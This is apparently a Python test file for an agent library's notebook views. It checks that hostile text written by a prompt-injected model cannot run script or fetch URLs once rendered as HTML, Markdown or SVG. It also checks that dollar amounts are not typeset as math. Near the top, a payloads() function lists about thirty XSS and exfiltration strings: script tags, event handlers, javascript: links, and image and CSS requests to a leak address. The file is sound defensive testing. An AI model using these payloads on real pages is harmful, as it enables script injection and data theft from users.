"""Hostile model output in the static views (Markdown, HTML, SVG): nothing in them may run or fetch.

A prompt-injected model writes payloads into whatever it writes: its plan's ids and tasks, step results, error
messages, the verdict, the answer. ``payloads()`` is the list the browser test (tests/browser/test_hostile.py)
reuses; js/test/hostile.test.js holds the same list for the widget's sanitizer.
"""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from dagmagic import DagSession, DagSettings, ModelRegistry, tool
from dagmagic.engine.run.dag_run import DagRun
from dagmagic.models import AnalysisResult, Decision, ExecutionPlan, PlanStep, RoundRecord, RunState, ToolCallRecord
from dagmagic.notebook.fallbacks import inert_markdown, run_html, run_markdown, svg
from dagmagic.testing import ScriptedLLM, ToolCall

LEAK = "http://127.0.0.1:9"
"""Where payloads send their requests (the browser test puts its counting server there)."""


def payloads(leak: str = LEAK) -> list[str]:
    """Every way a model's text could make a browser run script or fetch a URL, unless it is neutralized."""
    return [
        "<script>window.__pwned=1</script>",
        '<img src=x onerror="window.__pwned=2">',
        "[click](javascript:window.__pwned=3)",
        '<svg onload="window.__pwned=4"></svg>',
        '<a href="javascript:alert(1)">x</a>',
        f"![x]({leak}/leak?d=secret)",
        f'<img src="{leak}/leak2">',
        f'<div style="background:url({leak}/leak3)">styled</div>',
        f'<iframe src="{leak}/leak4"></iframe>',
        f'<link rel=stylesheet href="{leak}/leak5">',
        f'<video poster="{leak}/leak6"></video>',
        f'<input type=image src="{leak}/leak7">',
        f'<img srcset="{leak}/leak8 1x">',
        f'<picture><source srcset="{leak}/leak9"></picture>',
        f'<audio src="{leak}/leak10"></audio>',
        f'<object data="{leak}/leak11"></object>',
        f'<embed src="{leak}/leak12">',
        f'<table background="{leak}/leak13"><tr><td>t</td></tr></table>',
        f'<form action="{leak}/leak14"><button>go</button></form>',
        f'<svg><image href="{leak}/leak15"/></svg>',
        f'<math><mi xlink:href="{leak}/leak16">m</mi></math>',
        f"<style>@import url({leak}/leak17);</style>",
        f'<meta http-equiv="refresh" content="0;url={leak}/leak18">',
        f'<base href="{leak}/leak19/">',
        "[rel](./relative/path) [data](data:text/html,<script>alert(1)</script>)",
        "[ref][r]\n\n[r]: javascript:window.__pwned=6",
        f"![ref image][i]\n\n[i]: {leak}/leak20",
        f"> [q]: {leak}/leak21\n\n![q]",
        "- [l]: javascript:window.__pwned=8\n\n[l]",  # a definition in a list item: the answer is escaped whole
        "[multi\nline]: javascript:window.__pwned=9\n\n[multi line]",
        '<details open ontoggle="window.__pwned=7">d</details>',
        "`<img src=x onerror=alert(1)>` in code",
        f"\\\\![escaped backslash]({leak}/leak22)",
        f"[![nested]({leak}/leak23)](https://example.org)",
    ]


def hostile(leak: str = LEAK) -> str:
    return "\n\n".join(payloads(leak))


HOSTILE = hostile()
HOSTILE_ID = '<img src=x onerror="window.__pwned=5">'
PAYLOAD = "<script>window.__pwned=1</script>"

# What the static views may contain: plain tags, the DAG's pictures (an <img> of an SVG document given whole in
# its data URI) and the SVG's shapes, and their own attributes.
ALLOWED_TAGS = {
    "a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "i", "li", "ol", "p", "pre", "s", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul", "img",
    "svg", "path", "g", "rect", "text", "title",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "href", "rel", "title", "align", "class", "open", "start", "src", "alt",
    # the SVG's own geometry
    "xmlns", "width", "height", "viewbox", "font-family", "font-size", "d", "fill", "stroke", "data-step-id", "x",
    "y", "rx", "fill-opacity", "font-weight",
}  # fmt: skip
OUR_STYLES = {("pre", "white-space: pre-wrap"), ("img", "max-width: 100%; height: auto")}
"""The style attributes in the HTML view: ours, on a result's <pre> and a picture; none comes from the model."""
PICTURE = "data:image/svg+xml;base64,"
"""The only source an <img> may have: an SVG document in the page itself, checked as inert in its turn."""


class Elements(HTMLParser):
    """Every element and attribute of an HTML text, as a browser's parser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.pictures: list[Elements] = []
        """The SVG documents of the page's pictures, parsed."""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(page: str) -> Elements:
    """No element or attribute that runs or fetches; links only to http(s)/mailto, opening nothing of ours."""
    parsed = Elements(page)
    tags = {tag for tag, _ in parsed.elements}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in parsed.elements:
        for name, value in attrs.items():
            if name == "style":
                assert (tag, value) in OUR_STYLES, (tag, value)
                continue
            assert name in ALLOWED_ATTRIBUTES, (tag, name, value)
        if tag == "img":
            source = str(attrs.get("src"))
            assert source.startswith(PICTURE), source[:100]
            document = base64.b64decode(source.removeprefix(PICTURE), validate=True).decode()
            assert "<img" not in document
            parsed.pictures.append(assert_inert_html(document))
        href = attrs.get("href")
        if href is not None:
            assert tag == "a" and href.startswith(("http://", "https://", "mailto:")), (tag, href)
            assert attrs.get("rel") == "noopener noreferrer nofollow", attrs
    return parsed


RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
RENDERER.validateLink = lambda url: True  # type: ignore[method-assign]  # every link, as a lax renderer would


def assert_inert_markdown(text: str) -> Elements:
    """Rendered as a Markdown renderer that keeps raw HTML and every link would: nothing runs or fetches."""
    for token in RENDERER.parse(text):
        for inner in [token, *(token.children or [])]:
            assert inner.type not in ("image", "html_block", "html_inline"), (inner.type, inner.content)
            if inner.type == "link_open":
                href = str(inner.attrGet("href"))
                assert href.startswith(("http://", "https://", "mailto:")), href
    parsed = Elements(RENDERER.render(text))
    assert not {"script", "img", "iframe", "style", "svg"} & {tag for tag, _ in parsed.elements}
    assert all(not name.startswith("on") and name != "style" for _, attrs in parsed.elements for name in attrs)
    return parsed


def hostile_run() -> DagRun:
    """A finished run with the payloads in every string a model writes."""
    steps = [
        PlanStep(
            id=HOSTILE_ID,
            task=HOSTILE,
            status="completed",
            result=HOSTILE,
            started_at=1,
            completed_at=3,
            tool_hint="probe",
            tool_args={"query": HOSTILE, HOSTILE_ID: "$s0"},  # a tool step: its call is shown
            tool_calls=[
                ToolCallRecord(
                    name="probe", arguments={"query": HOSTILE, HOSTILE_ID: HOSTILE}, observation=HOSTILE, turn=0
                )
            ],
            warnings=[HOSTILE],
        ),
        PlanStep(id="s2", task=HOSTILE, status="failed", error=f"RuntimeError: {HOSTILE}", dependencies=[HOSTILE_ID]),
        PlanStep(
            id="s3",
            task=HOSTILE,
            status="skipped",
            error=HOSTILE,
            dependencies=["s2"],
            tool_hint=HOSTILE_ID,
            tool_args={"q": PAYLOAD},
        ),
    ]
    record = RoundRecord(
        index=1,
        plan=ExecutionPlan(goal=HOSTILE, steps=steps),
        analysis=AnalysisResult(achieved=False, confidence=0.4, reasoning=HOSTILE),
        decision=Decision(action="synthesize", reason=HOSTILE),
        error=HOSTILE,
        warnings=[HOSTILE],
        follow_ups=[HOSTILE],
    )
    state = RunState(
        run_id="abc", goal=HOSTILE, status="failed", rounds=[record], answer=HOSTILE, error=f"PlanningError: {HOSTILE}"
    )
    return DagRun(state)


def test_the_html_view_has_only_plain_tags_and_shows_the_payloads_as_text() -> None:
    page = run_html(hostile_run())
    parsed = assert_inert_html(page)
    shown = "".join(parsed.text)
    assert "<script>window.__pwned=1</script>" in shown  # the task, result, errors, verdict: as text
    assert HOSTILE_ID in shown  # the model-written id
    assert "<script" not in page
    (drawing,) = parsed.pictures  # the round's DAG: its boxes name the model-written ids as text
    (alt,) = [attrs["alt"] for tag, attrs in parsed.elements if tag == "img"]
    assert alt is not None and f"s2 after {HOSTILE_ID}" in alt  # the picture in words: an attribute's text
    assert [attrs["data-step-id"] for tag, attrs in drawing.elements if tag == "g"] == [HOSTILE_ID, "s2", "s3"]
    assert HOSTILE_ID in "".join(drawing.text)


def test_the_svg_escapes_ids_and_tasks() -> None:
    drawing = svg(hostile_run().plan)  # type: ignore[arg-type]
    parsed = assert_inert_html(drawing)
    assert [attrs["data-step-id"] for tag, attrs in parsed.elements if tag == "g"] == [HOSTILE_ID, "s2", "s3"]
    assert HOSTILE_ID in "".join(parsed.text)


def test_a_tool_steps_call_is_text_in_every_static_view() -> None:
    """The tool's name (the planner's hint before it runs), argument names and values are all model-written."""
    planned = f'{HOSTILE_ID}(q="{PAYLOAD}")'
    shown = "".join(assert_inert_html(run_html(hostile_run())).text)
    assert planned in shown and "probe(query=" in shown
    assert planned in "".join(assert_inert_markdown(run_markdown(hostile_run())).text)


def test_the_markdown_view_renders_nothing_that_runs_or_fetches() -> None:
    text = run_markdown(hostile_run())
    parsed = assert_inert_markdown(text)
    shown = "".join(parsed.text)
    assert "<script>window.__pwned=1</script>" in shown
    assert f"error: PlanningError: {HOSTILE.splitlines()[0]}" in shown  # the run's error, quoting the model
    assert HOSTILE_ID in shown


def test_the_answer_keeps_its_markdown_with_images_as_links() -> None:
    answer = (
        f"## Result\n\nThe **answer**, ![a chart]({LEAK}/chart.png), [docs](https://example.org) and "
        "[bad](javascript:alert(1))."
    )
    parsed = assert_inert_markdown(inert_markdown(answer))
    links = [attrs["href"] for tag, attrs in parsed.elements if tag == "a"]
    assert links == [f"{LEAK}/chart.png", "https://example.org"]  # the image, as a link; the javascript: one gone
    assert {"h2", "strong"} <= {tag for tag, _ in parsed.elements}
    assert "[bad](javascript:alert(1))" in "".join(parsed.text)  # shown as the text it is

    page = run_html(DagRun(RunState(run_id="a", goal="g", status="done", answer=answer)))
    html_links = [attrs["href"] for tag, attrs in assert_inert_html(page).elements if tag == "a"]
    assert html_links == [f"{LEAK}/chart.png", "https://example.org"]


@pytest.mark.parametrize("payload", payloads())
def test_each_payload_alone_is_inert_in_every_view(payload: str) -> None:
    run = hostile_run()
    run.state.answer = payload
    assert_inert_markdown(run_markdown(run))
    assert_inert_html(run_html(run))


async def test_a_run_a_hostile_model_wrote_is_inert_in_the_static_views() -> None:
    """Not a hand-made run: the planner, the tools, the failures and the fallback answer as they really are."""

    @tool
    def probe(query: str) -> str:
        """Look something up."""
        return HOSTILE

    def step(request: Any) -> Any:
        if request.step_id == "s2":
            raise RuntimeError(HOSTILE)
        return HOSTILE

    llm = ScriptedLLM(
        {
            "plan": [
                {
                    "steps": [
                        {"id": HOSTILE_ID, "task": HOSTILE},
                        {"id": "s2", "task": HOSTILE, "dependencies": [HOSTILE_ID]},
                        {"id": "s3", "task": HOSTILE, "tool_hint": "probe"},
                    ]
                }
            ],
            "step": step,
            "step:s3": [ToolCall("probe", {"query": "x"}), HOSTILE],
            "analyze": [RuntimeError(HOSTILE)],
        }
    )
    session = DagSession(ModelRegistry().register("scripted", llm), DagSettings(store="none"), tools=[probe])
    run = await session.run(HOSTILE)
    assert run.status == "failed" and run.error is not None and "<script>" in run.error
    assert [step.id for step in run.plan.steps] == [HOSTILE_ID, "s2", "s3"]  # type: ignore[union-attr]
    assert "<script>" in run.answer  # the fallback answer quotes the results
    assert_inert_markdown(run_markdown(run))
    assert_inert_html(run_html(run))


_MATH_SKIPPED = {"script", "noscript", "style", "textarea", "pre", "code"}
"""The tags MathJax never reads in (its skipHtmlTags)."""
_MATH_IGNORED = {"tex2jax_ignore", "mathjax_ignore"}
_VOID = {"area", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}


class _MathText(HTMLParser):
    """The text MathJax would read for math: outside the tags it skips and the elements whose class tells it to."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)  # &#36; is a dollar once parsed
        self.open: list[bool] = []
        """Per open element: whether MathJax leaves it alone (it, or an element around it, says so)."""
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _VOID:
            return
        classes = set((dict(attrs).get("class") or "").split())
        self.open.append(bool(self.open and self.open[-1]) or tag in _MATH_SKIPPED or bool(classes & _MATH_IGNORED))

    def handle_endtag(self, tag: str) -> None:
        if tag not in _VOID and self.open:
            self.open.pop()

    def handle_data(self, data: str) -> None:
        if not (self.open and self.open[-1]):
            self.text.append(data)


def math_spans(page: str) -> list[str]:
    """The ``$…$`` spans JupyterLab's MathJax would typeset in an HTML output (``\\$`` is a dollar)."""
    return re.findall(r"(?<!\\)\$[^$]+?(?<!\\)\$", "".join(_MathText(page).text))


DOLLARS = "It costs between $5 and $10, about $7.50 (see $s1)."


def test_dollar_amounts_in_a_runs_html_view_are_not_typeset_as_math() -> None:
    step = PlanStep(id="s1", task="Find the price in $ and €, say $5 or $6", status="completed", result=DOLLARS)
    record = RoundRecord(index=1, plan=ExecutionPlan(goal=DOLLARS, steps=[step]), error=DOLLARS)
    state = RunState(run_id="abc", goal=DOLLARS, status="done", rounds=[record], answer=DOLLARS)
    page = run_html(DagRun(state))
    assert page.count("$5") >= 2  # the amounts are there, as text
    # on main: 7 spans read as math (in the goal, the task, the round's note, the answer)
    assert math_spans(page) == [], math_spans(page)


async def test_dollar_amounts_in_the_experiments_grid_and_its_stopped_reason_are_not_typeset_as_math() -> None:
    from dagmagic.notebook.experiment_view import experiment_html, progress_line

    llm = ScriptedLLM(
        {
            "plan": [{"steps": [{"id": "s1", "task": "price it"}]}],
            "step": [DOLLARS],
            "analyze": [{"achieved": True, "confidence": 0.9, "reasoning": "ok", "final_answer": DOLLARS}],
        },
        price=(0.001, 0.001),
    )
    session = DagSession(ModelRegistry().register("m", llm), DagSettings(store="none"))
    one_cell = (await session.run("goal", conversation=False)).cost
    assert one_cell
    cases = ["Is it $5 or $10?", "Is it $7?", "Is it $9?"]
    experiment = await session.evaluate(cases, concurrency=1, max_cost=1.5 * one_cell, name="prices")
    assert experiment.stopped_reason is not None
    line = progress_line(experiment)
    assert "$" in line and "($" not in line, line  # on main: "max_cost $1.164 was spent ($1.566)"
    assert line.count("spent") == 1 and "of max_cost $" in line, line
    page = experiment_html(experiment)
    # on main: 5 spans read as math (in the cases' goals, the costs, the progress line)
    assert math_spans(page) == [], math_spans(page)


def test_dollar_amounts_in_a_step_a_plan_and_a_calls_html_are_not_typeset_as_math() -> None:
    from dagmagic.models import LLMCall, Usage

    step = PlanStep(
        id="s1",
        task="Find the price, say $5 or $6",
        status="failed",
        error=DOLLARS,
        usage=Usage(requests=1, input_tokens=10, output_tokens=5, cost=0.0012),
    )
    plan = ExecutionPlan(goal=DOLLARS, steps=[step])
    call = LLMCall(purpose="step", model="m", round=1, step_id="s1", status="failed", error=DOLLARS, usage=step.usage)
    for page in (step._repr_html_(), plan._repr_html_(), call._repr_html_()):
        assert "$5" in page or "$0.0012" in page  # the amounts are there, as text
        # before: the step's task, error and cost read as math (3 spans), the plan's task and error (1)
        assert math_spans(page) == [], (math_spans(page), page)
